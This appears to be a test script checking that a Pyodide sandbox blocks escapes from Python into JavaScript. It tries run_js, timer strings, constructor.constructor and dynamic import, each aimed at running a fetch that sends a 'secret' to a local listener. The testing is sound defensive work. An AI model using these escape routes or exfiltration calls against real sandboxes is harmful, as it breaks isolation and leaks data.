"""From a JavaScript object that Python holds to its constructor, and from there to code in a string."""

# expect: held
import sys

outside = inputs["outside"]
code = f"fetch('http://127.0.0.1:{outside}/?secret')"


def tried(name, act):
    try:
        print(name, str(act())[:60])
    except BaseException as error:
        print(name, "refused", type(error).__name__)


def run_js():
    from pyodide.code import run_js

    return run_js(code)


def by_timer():
    from pyodide.code import run_js  # noqa: F401
    import js

    return js.setTimeout(code, 1)


held = []
for name, module in list(sys.modules.items()):
    for attribute in list(getattr(module, "__dict__", {}).values()):
        if type(attribute).__name__ in ("JsProxy", "JsCallable", "JsCallableDoubleProxy"):
            held.append((name, attribute))
print("javascript objects in reach:", len(held))
tried("run_js", run_js)
tried("timer", by_timer)
for name, each in held:
    tried(f"{name} constructor", lambda each=each: each.constructor.constructor(code)())
    tried(f"{name} function", lambda each=each: each.constructor.new(code)())
    tried(
        f"{name} import",
        lambda each=each: each.constructor.constructor(f"return import('http://127.0.0.1:{outside}/')")(),
    )

open("/output/ended.txt", "w").write("ended")
